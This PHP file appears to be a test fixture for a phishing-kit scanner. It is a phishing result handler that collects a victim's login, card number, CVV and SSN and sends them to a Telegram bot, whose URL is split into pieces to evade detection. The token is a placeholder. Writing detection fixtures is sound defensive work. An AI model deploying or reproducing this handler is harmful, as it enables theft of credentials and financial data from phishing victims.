<?php
// Inert test sample (webhunt): a phishing page's result handler that posts the victim's answers to
// a Telegram bot; the bot's address is put together from pieces.
$c = ['t' => '000000:TESTTOKEN', 'c' => '-1000000000'];
$m = "+ user: {$_POST['usr']}\n+ pass: {$_POST['pwd']}\n";
$m .= "+ cc: " . $_POST['ccnum'] . "\n+ cvv: " . $_POST['cvv2'] . "\n+ ssn: " . $_POST['ssn'] . "\n";
$h = 'https://' . 'api.telegram.org/bot' . $c['t'];
$q = http_build_query(['chat_id' => $c['c'], 'text' => $m]);
@file_get_contents($h . '/sendMessage?' . $q);
header('Location: ./done.html');
